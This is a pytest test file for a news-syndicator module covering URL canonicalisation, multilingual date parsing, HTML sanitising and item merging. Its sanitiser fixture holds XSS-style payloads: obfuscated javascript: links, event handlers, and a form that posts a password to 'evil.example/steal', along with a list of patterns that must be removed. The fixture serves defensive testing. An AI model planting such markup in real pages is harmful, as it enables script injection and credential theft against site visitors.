"""Tests for syndicator.normalise: URLs, dates, HTML sanitising, summaries, items, merging."""

from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from syndicator.model import Article, Item
from syndicator.normalise import (
    NormaliseContext,
    ParsedDate,
    canonical_url,
    choose_date,
    content_hash,
    item_id,
    merge_with_stored,
    normalise_article,
    parse_date,
    plain_text_summary,
    sanitize_html,
)

MINSK = "Europe/Minsk"          # UTC+3 all year


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0,
        microsecond: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, second, microsecond, tzinfo=UTC)


# --- canonical_url / item_id -----------------------------------------------------------------

@pytest.mark.parametrize(("url", "expected"), [
    ("HTTPS://Example.COM", "https://example.com/"),
    ("http://example.com:80/a", "http://example.com/a"),
    ("https://example.com:443/a", "https://example.com/a"),
    ("https://example.com:8443/a", "https://example.com:8443/a"),
    ("https://example.com/a#comments", "https://example.com/a"),
    ("https://example.com/a?utm_source=x&id=5&utm_medium=y&fbclid=1&page=2",
     "https://example.com/a?id=5&page=2"),
    ("https://example.com/a?UTM_Campaign=x&gclid=1&dclid=1&yclid=1&msclkid=1&mc_cid=1"
     "&mc_eid=1&_ga=1&_gl=1&igshid=1&_hsenc=1&_hsmi=1&mkt_tok=1&ref_src=1",
     "https://example.com/a"),
    ("https://example.com/a?b=2&a=1", "https://example.com/a?b=2&a=1"),     # order kept
    ("https://example.com/Path/Case", "https://example.com/Path/Case"),     # path untouched
    ("  https://example.com/a  ", "https://example.com/a"),
    ("https://[::1]:8080/x", "https://[::1]:8080/x"),
])
def test_canonical_url_normalises(url: str, expected: str) -> None:
    assert canonical_url(url) == expected


@pytest.mark.parametrize("url", [
    "/relative/path", "ftp://example.com/file", "mailto:a@example.com",
    "javascript:alert(1)", "https://", "", "https://example.com:99999/",
])
def test_canonical_url_rejects_non_http(url: str) -> None:
    with pytest.raises(ValueError):
        canonical_url(url)


@pytest.mark.parametrize(("canonical", "expected"), [
    ("https://www.example.com/story?utm_source=rss", "https://www.example.com/story"),
    ("https://example.com/story", "https://example.com/story"),
    ("/story-canonical", "https://example.com/story-canonical"),           # resolved
    ("https://other.org/story", "https://example.com/story?id=1"),         # other site
    ("ftp://example.com/story", "https://example.com/story?id=1"),         # not http(s)
    ("https://example.com/", "https://example.com/story?id=1"),            # home page: CMS bug
    ("", "https://example.com/story?id=1"),
    (None, "https://example.com/story?id=1"),
])
def test_canonical_url_prefers_same_site_canonical(canonical: str | None, expected: str) -> None:
    assert canonical_url("https://example.com/story?id=1", canonical=canonical) == expected


def test_item_id_is_stable_and_derived_from_url_only() -> None:
    first = item_id("https://example.com/a")
    assert first == item_id("https://example.com/a")
    assert re.fullmatch(r"[0-9a-f]{32}", first)
    assert first != item_id("https://example.com/b")


# --- dates -----------------------------------------------------------------------------------

RU_MONTHS = ["января", "февраля", "марта", "апреля", "мая", "июня", "июля", "августа",
             "сентября", "октября", "ноября", "декабря"]
BE_MONTHS = ["студзеня", "лютага", "сакавіка", "красавіка", "мая", "чэрвеня", "ліпеня",
             "жніўня", "верасня", "кастрычніка", "лістапада", "снежня"]
EN_MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
             "September", "October", "November", "December"]


@pytest.mark.parametrize(("language", "months"), [
    ("ru", RU_MONTHS), ("be", BE_MONTHS), ("en", EN_MONTHS)])
@pytest.mark.parametrize("month", range(1, 13))
def test_parse_date_all_month_names(language: str, months: list[str], month: int) -> None:
    name = months[month - 1]
    day_only = parse_date(f"3 {name} 2021", language=language, timezone=MINSK)
    # local midnight in Minsk (UTC+3) is 21:00 UTC the day before
    assert day_only == ParsedDate(utc(2021, month, 2, 21, 0), has_time=False)
    with_time = parse_date(f"03 {name} 2021, 14:30", language=language, timezone=MINSK)
    assert with_time == ParsedDate(utc(2021, month, 3, 11, 30), has_time=True)


@pytest.mark.parametrize(("text", "language", "expected"), [
    ("June 03, 2021", "en", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("3 June 2021", "en", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("3 июня 2021", "ru", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("3 июня 2021 г.", "ru", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("03 июня 2021, 14:30", "ru", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("3 чэрвеня 2021", "be", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("3 июня 2021", "ru-RU", ParsedDate(utc(2021, 6, 2, 21), False)),
    # numeric dd.mm.yyyy is day-first in every language
    ("03.06.2021 14:30", "ru", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("03.06.2021 14:30", "be", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("03.06.2021 14:30", "en", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("03.06.2021", "en", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("3.6.2021, 09:05:10", None, ParsedDate(utc(2021, 6, 3, 6, 5, 10), True)),
    ("14:30, 03.06.2021", "ru", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    # ISO 8601 / RFC 3339: an explicit offset wins over the source time zone
    ("2021-06-03T14:30:00+02:00", "ru", ParsedDate(utc(2021, 6, 3, 12, 30), True)),
    ("2021-06-03T14:30:00Z", None, ParsedDate(utc(2021, 6, 3, 14, 30), True)),
    ("2021-06-03T14:30:00.123Z", None, ParsedDate(utc(2021, 6, 3, 14, 30, 0, 123000), True)),
    ("2021-06-03 14:30", None, ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("2021-06-03", None, ParsedDate(utc(2021, 6, 2, 21), False)),
    # RFC 822 (RSS)
    ("Thu, 03 Jun 2021 14:30:00 GMT", None, ParsedDate(utc(2021, 6, 3, 14, 30), True)),
    ("Thu, 03 Jun 2021 14:30:00 +0300", None, ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("Thu, 03 Jun 2021 14:30:00 -0000", None, ParsedDate(utc(2021, 6, 3, 14, 30), True)),
    ("  3   июня\n2021 ", "ru", ParsedDate(utc(2021, 6, 2, 21), False)),
    ("Опубликовано: 3 июня 2021 в 14:30", "ru", ParsedDate(utc(2021, 6, 3, 11, 30), True)),
    ("Updated: 2021-06-03T14:30:00Z", "en", ParsedDate(utc(2021, 6, 3, 14, 30), True)),
])
def test_parse_date(text: str, language: str | None, expected: ParsedDate) -> None:
    assert parse_date(text, language=language, timezone=MINSK) == expected


@pytest.mark.parametrize("text", [
    "", "   ", "garbage", "2021", "June 2021", "31.02.2021", "14:30", "x" * 500,
    "вчера", "2 hours ago",                   # relative: needs `now`
])
def test_parse_date_unparseable_is_none(text: str) -> None:
    assert parse_date(text, language="ru", timezone=MINSK) is None


def test_parse_date_timezone_conversion_and_dst() -> None:
    winter = parse_date("15.01.2021 12:00", language="de", timezone="Europe/Berlin")
    summer = parse_date("15.07.2021 12:00", language="de", timezone="Europe/Berlin")
    assert winter is not None and winter.value == utc(2021, 1, 15, 11)
    assert summer is not None and summer.value == utc(2021, 7, 15, 10)
    plain_utc = parse_date("03.06.2021 14:30", language="ru", timezone="UTC")
    assert plain_utc is not None and plain_utc.value == utc(2021, 6, 3, 14, 30)
    assert plain_utc.value.tzinfo is UTC


def test_parse_date_with_format() -> None:
    parsed = parse_date("2021/06/03 - 14h30", language="en", timezone=MINSK,
                        date_format="%Y/%m/%d - %Hh%M")
    assert parsed == ParsedDate(utc(2021, 6, 3, 11, 30), True)
    day = parse_date("20210603", language="en", timezone=MINSK, date_format="%Y%m%d")
    assert day == ParsedDate(utc(2021, 6, 2, 21), False)
    # a format that does not fit falls through to the other parsers
    iso = parse_date("2021-06-03T14:30:00Z", language="en", timezone=MINSK, date_format="%d/%m")
    assert iso == ParsedDate(utc(2021, 6, 3, 14, 30), True)


@pytest.mark.parametrize(("text", "language", "expected"), [
    ("вчера, 14:30", "ru", ParsedDate(utc(2021, 6, 4, 11, 30), True)),
    ("вчера", "ru", ParsedDate(utc(2021, 6, 3, 21), False)),
    ("Сегодня, 10:15", "ru", ParsedDate(utc(2021, 6, 5, 7, 15), True)),
    ("учора", "be", ParsedDate(utc(2021, 6, 3, 21), False)),
    ("2 hours ago", "en", ParsedDate(utc(2021, 6, 5, 7), True)),
    ("10:00", "ru", ParsedDate(utc(2021, 6, 5, 7), True)),
    ("14:30", "ru", ParsedDate(utc(2021, 6, 4, 11, 30), True)),      # later today → yesterday
])
def test_parse_date_relative_needs_now(text: str, language: str, expected: ParsedDate) -> None:
    now = utc(2021, 6, 5, 9)                          # 12:00 in Minsk
    assert parse_date(text, language=language, timezone=MINSK, now=now) == expected
    assert parse_date(text, language=language, timezone=MINSK) is None


@pytest.mark.parametrize("text", ["Иван Петров", "2021", "июнь", "garbage",
                                  "31 декабря",           # a year-less day months ago
                                  "3 июня", "3 июня, 14:30"])   # ... or two days ago
def test_parse_date_relative_rejects_non_dates(text: str) -> None:
    assert parse_date(text, language="ru", timezone=MINSK, now=utc(2021, 6, 5, 9)) is None


def test_choose_date_prefers_first_but_upgrades_to_same_day_timestamp() -> None:
    def choose(candidates: list[str]) -> ParsedDate | None:
        return choose_date(candidates, language="ru", timezone=MINSK)

    # bare date first, full timestamp of the same local day later: the timestamp wins
    assert choose(["3 июня 2021", "2021-06-03T14:30:00+03:00"]) == \
        ParsedDate(utc(2021, 6, 3, 11, 30), True)
    # 23:30 UTC on June 2 is 02:30 on June 3 in Minsk: the same local day
    assert choose(["3 июня 2021", "2021-06-02T23:30:00Z"]) == \
        ParsedDate(utc(2021, 6, 2, 23, 30), True)
    # a timestamp of another day does not override the visible date
    assert choose(["3 июня 2021", "2021-06-04T10:00:00+03:00"]) == \
        ParsedDate(utc(2021, 6, 2, 21), False)
    # the first timestamp wins over later ones
    assert choose(["03.06.2021 14:30", "2021-06-03T09:00:00+03:00"]) == \
        ParsedDate(utc(2021, 6, 3, 11, 30), True)
    # unparseable candidates are skipped
    assert choose(["", "когда-то", "3 июня 2021"]) == \
        ParsedDate(utc(2021, 6, 2, 21), False)
    assert choose(["никогда"]) is None
    assert choose([]) is None


# --- sanitize_html ---------------------------------------------------------------------------

HOSTILE = """
<h1 title="t" onclick="x()">Headline</h1>
<script>alert('script')</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame">iframe fallback</iframe>
<p onclick="alert('click')" style="color:red">Text with
 <a href="javascript:alert('href')">js link</a>,
 <a href="jav&#x09;ascript:alert('obfuscated')">obfuscated</a>,
 <a href="&#106;avascript:alert('entity')">entity</a>,
 <a href=" JAVASCRIPT:alert('case')">case</a>,
 <a href="vbscript:msgbox('vb')">vb</a> and
 <a href="data:text/html,<script>alert('d')</script>">data</a>.</p>
<img src="x" onerror="alert('onerror')">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<img src="https://tracker.example/zero.gif" width="0" height="0">
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<math><mi>mathml</mi></math>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="movie.swf">object fallback</object><embed src="movie.swf">
<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
<!-- a comment -->
<p>Kept paragraph.</p>
"""


def test_sanitize_html_removes_everything_hostile() -> None:
    out = sanitize_html(HOSTILE, base_url="https://example.com/news/1")
    lowered = out.lower()
    for needle in ("<script", "alert", "<style", "display", "<iframe", "evil", "onclick",
                   "onerror", "onload", "javascript", "vbscript", "data:", "<svg", "<math",
                   "mathml", "<form", "<input", "password", "<button", "<meta", "refresh",
                   "<object", "<embed", "movie.swf", "<link", "<base", "comment", "tracker",
                   "style=", "<h1", "title="):
        assert needle not in lowered, needle
    assert "<h2>Headline</h2>" in out
    assert "<p>Kept paragraph.</p>" in out
    assert "js link,\n obfuscated,\n entity" in out     # unsafe links unwrapped, text kept
    assert '<img src="https://example.com/news/x">' in out


def test_sanitize_html_absolutises_urls() -> None:
    html = ('<p><a href="../other?id=1&amp;x=2" title="T">rel</a> <a href="//cdn.example/x">'
            'proto</a> <a href="#top">frag</a> <a href="mailto:ed@example.com">mail</a></p>'
            '<figure><picture><source srcset="/p.webp" type="image/webp">'
            '<img src="img/a.jpg" srcset="a-1x.jpg 1x, /img/a,w_800.jpg 2x, javascript:x 3x" '
            'alt="A" width="800" height="600" loading="lazy" class="c"></picture>'
            '<figcaption>Caption</figcaption></figure>'
            '<table><tr><td colspan="2" class="x">cell</td></tr></table>')
    out = sanitize_html(html, base_url="https://example.com/news/2021/story")
    assert ('<a href="https://example.com/news/other?id=1&amp;x=2" title="T" '
            'rel="noopener noreferrer">rel</a>') in out
    assert 'href="https://cdn.example/x"' in out
    assert 'href="https://example.com/news/2021/story#top"' in out
    assert 'href="mailto:ed@example.com"' in out
    assert ('<img src="https://example.com/news/2021/img/a.jpg" '
            'srcset="https://example.com/news/2021/a-1x.jpg 1x, '
            'https://example.com/img/a,w_800.jpg 2x" alt="A" width="800" height="600">') in out
    assert "<picture" not in out and "<source" not in out and "p.webp" not in out
    assert "<figcaption>Caption</figcaption>" in out
    assert '<td colspan="2">cell</td>' in out


def test_sanitize_html_drops_images_without_src_and_empty_links() -> None:
    html = ('<p>a<img data-src="lazy.jpg"><a href="/t"><img src="/t.gif" width="1" '
            'height="1"></a><noscript><img src="/real.jpg"></noscript></p>')
    out = sanitize_html(html, base_url="https://example.com/")
    assert out == '<p>a<img src="https://example.com/real.jpg"></p>'


@pytest.mark.parametrize("html", ["", "   \n\t ", "<script>x</script>", "<!-- only -->"])
def test_sanitize_html_empty(html: str) -> None:
    assert sanitize_html(html, base_url="https://example.com/") == ""


# --- plain_text_summary ----------------------------------------------------------------------

@pytest.mark.parametrize(("summary", "expected"), [
    ("Plain text.", "Plain text."),
    ("<p>Hello <b>world</b></p><p>Second &amp; last</p>", "Hello world Second & last"),
    ("The story goes on [&hellip;]", "The story goes on…"),
    ("The story goes on […]", "The story goes on…"),
    ("The story goes on [...]", "The story goes on…"),
    ("The story goes on, …", "The story goes on…"),
    ("The story goes on...", "The story goes on…"),
    ("<script>alert(1)</script>  spaced \n\n out  ", "spaced out"),
    ("5 &lt; 6 &amp;&amp; 7 > 2", "5 < 6 && 7 > 2"),
])
def test_plain_text_summary_from_summary(summary: str, expected: str) -> None:
    assert plain_text_summary(summary, "<p>ignored content</p>") == expected


def test_plain_text_summary_from_content_cut_at_word_boundary() -> None:
    content = "<h2>Title</h2><p>" + "lorem ipsum " * 100 + "</p><p>Second.</p>"
    out = plain_text_summary(None, content, max_chars=50)
    assert out.startswith("Title lorem ipsum")
    assert out.endswith("…") and len(out) <= 51
    assert not out[:-1].endswith(" ")
    assert out[:-1].split()[-1] in ("lorem", "ipsum")   # whole words only


def test_plain_text_summary_limits() -> None:
    assert plain_text_summary(None, None) == ""
    assert plain_text_summary("  ", "<p>Short content.</p>") == "Short content."
    long_summary = "word " * 200 + "[…]"
    assert len(plain_text_summary(long_summary, None, max_chars=100)) <= 101
    assert len(plain_text_summary("x" * 1000, None, max_chars=100)) == 101


# --- normalise_article -----------------------------------------------------------------------

def context(now: datetime, language: str | None = "ru") -> NormaliseContext:
    return NormaliseContext(source_id="src", language=language, timezone=MINSK,
                            date_format=None, now=now)


def article(**changes: object) -> Article:
    base = Article(
        url="https://Example.com/news/1?utm_source=rss#top",
        title="  Заголовок &amp; <b>новость</b>\n ",
        dates=("3 июня 2021",),
        summary="<p>Кратко […]</p>",
        content='<p>Текст <a href="/other">ссылка</a></p><script>x()</script>',
        image="https://example.com/img.jpg",
        author="  Иван  Петров ",
        categories=(" Политика ", "политика", "", "Экономика"),
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def test_normalise_article_fields() -> None:
    item = normalise_article(article(), context(utc(2021, 6, 10, 12)))
    assert item is not None
    assert item.url == "https://example.com/news/1"
    assert item.id == item_id("https://example.com/news/1")
    assert item.source_id == "src"
    assert item.title == "Заголовок & новость"
    assert item.published == utc(2021, 6, 2, 21)        # local midnight of a past day
    assert item.published_precision == "day"
    assert item.updated == item.published
    assert item.summary == "Кратко…"
    assert item.content == ('<p>Текст <a href="https://example.com/other" '
                            'rel="noopener noreferrer">ссылка</a></p>')
    assert item.image == "https://example.com/img.jpg"
    assert item.author == "Иван Петров"
    assert item.categories == ("Политика", "Экономика")
    assert item.language == "ru"
    assert item.content_hash == content_hash(item)


@pytest.mark.parametrize("changes", [
    {"title": None}, {"title": "  "}, {"title": "<script>x</script>"},
    {"url": ""}, {"url": "/relative"}, {"url": "ftp://example.com/x"},
])
def test_normalise_article_without_url_or_title_is_none(changes: dict[str, object]) -> None:
    assert normalise_article(article(**changes), context(utc(2021, 6, 10))) is None


def test_normalise_article_stable_across_runs_for_past_day_dates() -> None:
    first = normalise_article(article(), context(utc(2021, 6, 10, 8)))
    second = normalise_article(article(), context(utc(2021, 6, 11, 17, 45)))
    assert first is not None and second is not None
    assert first == second
    assert merge_with_stored(first, second, timezone=MINSK, now=utc(2021, 6, 11, 17, 45)) is None


def test_normalise_article_today_and_undated_use_now() -> None:
    now = utc(2021, 6, 3, 9, 15)                       # 12:15 on June 3 in Minsk
    today = normalise_article(article(), context(now))
    assert today is not None
    assert (today.published, today.published_precision) == (now, "day")
    undated = normalise_article(article(dates=("нет даты",)), context(now))
    assert undated is not None
    assert (undated.published, undated.published_precision) == (now, "none")


def test_normalise_article_timestamp_and_updated() -> None:
    now = utc(2021, 6, 10)
    stamped = normalise_article(
        article(dates=("3 июня 2021", "2021-06-03T14:30:00+03:00"),
                updated="2021-06-04T10:00:00+03:00"), context(now))
    assert stamped is not None
    assert (stamped.published, stamped.published_precision) == (utc(2021, 6, 3, 11, 30), "time")
    assert stamped.updated == utc(2021, 6, 4, 7)
    earlier = normalise_article(
        article(dates=("03.06.2021 14:30",), updated="01.06.2021 10:00"), context(now))
    assert earlier is not None and earlier.updated == earlier.published


def test_normalise_article_other_fields() -> None:
    item = normalise_article(
        article(canonical="https://www.example.com/news/1-canonical", summary=None,
                image="javascript:alert(1)", author="  ", language="be", categories=()),
        context(utc(2021, 6, 10), language=None))
    assert item is not None
    assert item.url == "https://www.example.com/news/1-canonical"
    assert item.summary == "Текст ссылка"
    assert item.image is None and item.author is None and item.categories == ()
    assert item.language == "be"


def test_content_hash_ignores_ids_and_updated_and_day_published() -> None:
    item = normalise_article(article(), context(utc(2021, 6, 10)))
    assert item is not None
    same = replace(item, id="other", updated=utc(2030, 1, 1), published=utc(2021, 6, 3, 5))
    assert content_hash(same) == content_hash(item)
    assert content_hash(replace(item, title="Другой")) != content_hash(item)
    timed = replace(item, published_precision="time")
    assert content_hash(replace(timed, published=utc(2021, 6, 3, 5))) != content_hash(timed)


# --- merge_with_stored -----------------------------------------------------------------------

def fresh_item(now: datetime, **changes: object) -> Item:
    item = normalise_article(article(**changes), context(now))
    assert item is not None
    return item


def test_merge_new_item_is_fresh() -> None:
    fresh = fresh_item(utc(2021, 6, 10))
    assert merge_with_stored(None, fresh, timezone=MINSK) is fresh


def test_merge_unchanged_is_none() -> None:
    stored = fresh_item(utc(2021, 6, 3, 9))               # first seen on the day: published=now
    again = fresh_item(utc(2021, 6, 3, 15))               # same day, later run
    assert again.published != stored.published
    assert merge_with_stored(stored, again, timezone=MINSK, now=utc(2021, 6, 3, 15)) is None


def test_merge_edited_title_keeps_id_and_published_and_raises_updated() -> None:
    stored = fresh_item(utc(2021, 6, 3, 9))
    edited = fresh_item(utc(2021, 6, 3, 15), title="Исправленный заголовок")
    merged = merge_with_stored(stored, edited, timezone=MINSK, now=utc(2021, 6, 3, 15))
    assert merged is not None
    assert merged.id == stored.id
    assert merged.title == "Исправленный заголовок"
    assert merged.published == stored.published == utc(2021, 6, 3, 9)
    assert merged.updated == utc(2021, 6, 3, 15) > stored.updated
    assert merged.content_hash == content_hash(merged)
    # writing the merged item and seeing the same page again changes nothing
    assert merge_with_stored(merged, fresh_item(utc(2021, 6, 4), title="Исправленный заголовок"),
                             timezone=MINSK, now=utc(2021, 6, 4)) is None


def test_merge_keeps_stored_id_even_if_fresh_differs() -> None:
    stored = replace(fresh_item(utc(2021, 6, 10)), id="legacy-id")
    edited = fresh_item(utc(2021, 6, 11), summary="Новое описание")
    merged = merge_with_stored(stored, edited, timezone=MINSK, now=utc(2021, 6, 11))
    assert merged is not None and merged.id == "legacy-id"
    assert merged.updated == utc(2021, 6, 11)


def test_merge_explicit_modification_date() -> None:
    stored = fresh_item(utc(2021, 6, 10), dates=("2021-06-03T14:30:00+03:00",))
    edited = fresh_item(utc(2021, 6, 12, 8), dates=("2021-06-03T14:30:00+03:00",),
                        title="Новый", updated="2021-06-12T10:00:00+03:00")
    merged = merge_with_stored(stored, edited, timezone=MINSK, now=utc(2021, 6, 11))
    assert merged is not None and merged.updated == utc(2021, 6, 12, 7)


def test_merge_published_rules() -> None:
    stored = fresh_item(utc(2021, 6, 3, 9))                       # day, first seen 09:00Z
    # the page now shows a timestamp: it wins
    timed = fresh_item(utc(2021, 6, 3, 15), dates=("03.06.2021 08:00",))
    merged = merge_with_stored(stored, timed, timezone=MINSK, now=utc(2021, 6, 3, 15))
    assert merged is not None
    assert (merged.published, merged.published_precision) == (utc(2021, 6, 3, 5), "time")
    # the page now shows another day: the fresh date wins
    moved = fresh_item(utc(2021, 6, 5), dates=("4 июня 2021",))
    merged = merge_with_stored(stored, moved, timezone=MINSK, now=utc(2021, 6, 5))
    assert merged is not None
    assert (merged.published, merged.published_precision) == (utc(2021, 6, 3, 21), "day")
    # the page lost its date: what was known stays
    undated = fresh_item(utc(2021, 6, 6), dates=())
    assert merge_with_stored(stored, undated, timezone=MINSK, now=utc(2021, 6, 6)) is None
    # a first-seen time of an undated item stays stable across runs
    first = fresh_item(utc(2021, 6, 6), dates=())
    later = fresh_item(utc(2021, 6, 7), dates=())
    assert merge_with_stored(first, later, timezone=MINSK, now=utc(2021, 6, 7)) is None


# The month-name fast path must agree with dateparser, which it saves calling.
@pytest.mark.parametrize(("language", "texts"), [
    ("en", ["October 01, 2024", "May 5, 2024, 14:30", "Sep 3rd, 2023 at 9:05", "6 May 2024",
            "6 May 2024, 10:30", "December 31 2025"]),
    ("ru", ["21 октября 2025", "1 мая 2024 г.", "5 мая 2024 в 14:30", "3 июня 2021, 08:15",
            "29 февраля 2024"]),
    ("be", ["9 кастрычніка 2025", "28 жніўня 2025", "1 ліпеня 2025 у 10:00", "5 траўня 2024"]),
    ("uk", ["12 листопада 2023 р.", "1 січня 2024"]),
    ("de", ["3 Juni 2021", "3. März 2021"]),
])
def test_month_name_fast_path_agrees_with_dateparser(language: str, texts: list[str]) -> None:
    from syndicator.dates import _dateparser, _parse_month_name

    for text in texts:
        fast = _parse_month_name(text, MINSK, language=language)
        data = _dateparser(language, MINSK, None).get_date_data(text)
        assert fast is not None, text
        assert data.date_obj is not None, text
        assert fast.value == data.date_obj.astimezone(UTC), text
        assert fast.has_time == (data.period == "time"), text
